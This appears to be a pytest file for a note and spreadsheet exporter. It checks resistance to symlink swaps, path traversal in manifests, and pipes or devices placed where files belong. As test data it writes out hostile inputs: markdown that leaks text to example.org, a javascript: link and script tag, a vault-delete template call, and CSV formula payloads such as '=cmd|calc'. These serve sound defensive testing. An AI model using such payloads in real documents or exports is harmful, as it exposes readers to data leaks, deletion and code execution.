"""Exports into folders that others may write to, and records whose text is an attack on the program that shows them."""

import csv
import fcntl
import json
import os
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from dagster_offload.errors import SettingsError
from dagster_offload.records import export
from dagster_offload.records.columns import BUILT_IN_COLUMNS, columns
from dagster_offload.settings import load_settings

DOCUMENT = columns(load_settings())[:1]


def record(document: str, **fields: Any) -> dict[str, Any]:
    return {"document": document, "state": "done", **fields}


def write_notes(folder: Path, *documents: str) -> export.Exported:
    return export.write_notes([record(document) for document in documents], DOCUMENT, folder, None)


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file that an attacker wants to have overwritten or removed, in a folder of its own."""
    file = tmp_path / "outside" / "a.txt.md"
    file.parent.mkdir()
    file.write_text("mine")
    return file


@pytest.mark.parametrize("form", ["csv", "parquet", "md"])
def test_a_draft_that_is_replaced_by_a_link_redirects_nothing(
    form: str, tmp_path: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "shared"
    folder.mkdir()
    swapped: list[Path] = []
    lock = fcntl.flock

    def swap(descriptor: int, operation: int) -> None:
        """What a person who may write to the folder does between the creation of the draft and its first byte."""
        for draft in folder.glob(".*.new"):
            draft.rename(folder / f"moved-{len(swapped)}")
            draft.symlink_to(outside)
            swapped.append(draft)
        lock(descriptor, operation)

    monkeypatch.setattr(fcntl, "flock", swap)
    if form == "md":
        write_notes(folder, "b.txt")
    else:
        export.write_file([record("b.txt")], DOCUMENT, form, folder / f"r.{form}")
    assert swapped
    assert outside.read_text() == "mine"


def test_no_note_is_written_behind_a_link(tmp_path: Path, outside: Path) -> None:
    folder = tmp_path / "notes"
    folder.mkdir()
    (folder / "letters").symlink_to(outside.parent)
    with pytest.raises(SettingsError, match=r"letters/a\.txt\.md cannot be written: a part of its path is a link"):
        write_notes(folder, "letters/a.txt")
    with pytest.raises(SettingsError, match="is a link"):
        write_notes(folder, "letters/deeper/a.txt")
    for key in ("../outside/a.txt", str(outside).removesuffix(".md")):  # in a ledger that another program wrote
        with pytest.raises(SettingsError, match="cannot be written"):
            write_notes(folder, key)
    assert os.listdir(outside.parent) == [outside.name]
    assert outside.read_text() == "mine"


def test_no_note_is_removed_behind_a_link(tmp_path: Path, outside: Path) -> None:
    folder = tmp_path / "notes"
    write_notes(folder, "letters/a.txt", "letters/empty/b.txt")
    (folder / "letters").rename(tmp_path / "away")
    (folder / "letters").symlink_to(outside.parent)
    (outside.parent / "empty").mkdir()
    assert write_notes(folder, "c.txt").removed == 2
    assert outside.read_text() == "mine"
    assert (outside.parent / "empty").is_dir()


def test_a_list_of_notes_that_another_program_wrote_removes_only_notes_in_the_folder(
    tmp_path: Path, outside: Path
) -> None:
    folder = tmp_path / "notes"
    folder.mkdir()
    (folder / "mine.txt").write_text("mine")
    names = ["mine.txt", "../outside/a.txt.md", str(outside), "./../outside/a.txt.md", "a//../../outside/a.txt.md"]
    (folder / export.MANIFEST).write_text(json.dumps({"notes": names}))
    write_notes(folder, "c.txt")
    assert (folder / "mine.txt").exists()
    assert outside.exists()


@pytest.mark.parametrize("content", ["[" * 100_000, "[]", '{"notes": 1}', '{"notes": [1]}', "\0"])
def test_a_list_of_notes_in_another_form_is_named(content: str, tmp_path: Path) -> None:
    (tmp_path / export.MANIFEST).write_text(content)
    with pytest.raises(SettingsError, match="is damaged"):
        write_notes(tmp_path, "c.txt")


@pytest.mark.parametrize("name", ["a.txt.md", export.MANIFEST])
def test_a_link_in_the_place_of_a_file_of_ours_is_not_followed(name: str, tmp_path: Path, outside: Path) -> None:
    folder = tmp_path / "notes"
    write_notes(folder, "a.txt")
    (folder / name).unlink()
    (folder / name).symlink_to(outside)
    if name == export.MANIFEST:
        with pytest.raises(SettingsError, match="is a link"):
            write_notes(folder, "a.txt")
    else:
        assert write_notes(folder, "a.txt").written == 1
        assert not (folder / name).is_symlink()
    assert outside.read_text() == "mine"


@pytest.mark.parametrize("name", ["a.txt.md", export.MANIFEST])
def test_a_pipe_in_the_place_of_a_file_of_ours_blocks_nothing(name: str, tmp_path: Path) -> None:
    write_notes(tmp_path, "a.txt")
    (tmp_path / name).unlink()
    os.mkfifo(tmp_path / name)
    if name == export.MANIFEST:
        with pytest.raises(SettingsError, match="it is not a file"):
            write_notes(tmp_path, "a.txt")
    else:
        assert write_notes(tmp_path, "a.txt").written == 1
        assert (tmp_path / name).is_file()


@pytest.mark.parametrize("form", ["csv", "parquet"])
@pytest.mark.parametrize("place", ["pipe", "link to a device", "/dev/new.csv", "/dev/fd/1"])
def test_no_file_takes_the_place_of_a_device_or_a_pipe(place: str, form: str, tmp_path: Path) -> None:
    file = tmp_path / place  # one that begins with / stands alone
    if place == "pipe":
        os.mkfifo(file)
    elif place == "link to a device":
        file.symlink_to("/dev/null")
    before = file.lstat().st_mode if os.path.lexists(file) else None
    with pytest.raises(SettingsError, match="a device, a pipe or a socket, which a file would replace"):
        export.write_file([record("b.txt")], DOCUMENT, form, file)
    assert (file.lstat().st_mode if os.path.lexists(file) else None) == before


def test_what_is_not_ours_is_left_alone_in_the_place_of_a_note(tmp_path: Path, outside: Path) -> None:
    folder = tmp_path / "notes"
    (folder / "folder.txt.md").mkdir(parents=True)
    (folder / "file.txt.md").write_text("mine")
    (folder / "link.txt.md").symlink_to(outside)
    os.mkfifo(folder / "pipe.txt.md")
    names = ("file.txt.md", "folder.txt.md", "link.txt.md", "pipe.txt.md")
    documents = [name.removesuffix(".md") for name in (*names, "new.txt.md")]
    assert write_notes(folder, *documents) == export.Exported(5, 1, 0, left_alone=names)
    assert write_notes(folder) == export.Exported(0, 0, 1)
    assert sorted(os.listdir(folder)) == [export.MANIFEST, *names]
    assert (folder / "file.txt.md").read_text() == outside.read_text() == "mine"


def test_an_export_of_a_selection_keeps_the_notes_of_documents_that_it_leaves_out(tmp_path: Path) -> None:
    write_notes(tmp_path, "a.txt", "letters/b.txt", "gone.txt")
    selected = [record("a.txt")]
    for removed in (1, 0):  # the notes that are kept stay in the list
        done = export.write_notes(selected, DOCUMENT, tmp_path, None, iter(["a.txt", "letters/b.txt", "new.txt"]))
        assert done == export.Exported(1, 0, removed, kept=1)
    assert (tmp_path / "letters/b.txt.md").exists()
    assert write_notes(tmp_path, "a.txt") == export.Exported(1, 0, 1)


def test_an_older_note_of_a_lost_list_is_brought_up_to_date(tmp_path: Path) -> None:
    write_notes(tmp_path, "a.txt", "b.txt")
    (tmp_path / export.MANIFEST).unlink()
    with (tmp_path / "a.txt.md").open("a") as note:
        note.write("an older form")
    assert write_notes(tmp_path, "a.txt", "b.txt") == export.Exported(2, 1, 0)


def test_no_folder_of_the_library_can_take_the_place_of_a_note(tmp_path: Path) -> None:
    documents = ["rent", "rent.md/letter.txt", "lease", "lease.MD/letter.txt", f"{export.MANIFEST}/letter.txt"]
    for order in (documents, documents[::-1]):
        folder = tmp_path / order[0].replace("/", "-")
        assert write_notes(folder, *order) == export.Exported(5, 5, 0)
        assert write_notes(folder, *order) == export.Exported(5, 0, 0)
        assert len({export.note_name(document).casefold() for document in documents}) == 5


@pytest.mark.parametrize(
    "attack",
    [
        "![leak](https://example.org/?text=the+rent)",
        "[click](javascript:alert(1))",
        "[[../../secret]] and ![[other note]]",
        "see [the bill][1]\n\n[1]: https://example.org",
        "`= dv.current()` and `$= dv.io.load('x')`",
        "```dataviewjs\nalert(1)\n```",
        "~~~\nhidden",
        '<img src="https://example.org/leak.png"> <script>alert(1)</script>',
        "<https://example.org/leak>",
        "<%* app.vault.delete() %>",
        "| a | b |\n|---|---|",
        "# not the title",
    ],
)
def test_a_note_shows_the_text_of_a_record_and_loads_and_runs_nothing_of_it(attack: str, tmp_path: Path) -> None:
    hostile = record("a.txt", title=attack, summary=attack, key_points=[attack])
    export.write_notes([hostile], (*DOCUMENT, *BUILT_IN_COLUMNS), tmp_path, None)
    _, _, body = (tmp_path / "a.txt.md").read_text(encoding="utf-8").split("---\n", 2)
    page = MarkdownIt("commonmark").enable("table").render(body)
    for tag in ("<a ", "<img", "<code", "<pre", "<script", "<table", 'javascript:alert(1)"'):
        assert tag not in page
    assert page.count("<h1>") == 1
    # Programs for notes read the text itself, too.
    for mark in ("![", "[[", "`=", "`$", "```", "<%"):
        assert mark not in body.replace("\\`", "").replace("\\[", "")


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"])
def test_no_cell_begins_like_a_formula(beginning: str) -> None:
    out = StringIO()
    hostile = record(f"{beginning}cmd|calc", title=f"{beginning}cmd|calc", key_points=[f"{beginning}1"])
    export.write_text([hostile], (*DOCUMENT, *BUILT_IN_COLUMNS), "csv", out)
    [row] = csv.DictReader(StringIO(out.getvalue()))
    assert row["title"] == f"'{beginning}cmd|calc"
    assert not [value for value in row.values() if value.startswith(tuple("=+-@\t\r\n＝＋－＠"))]
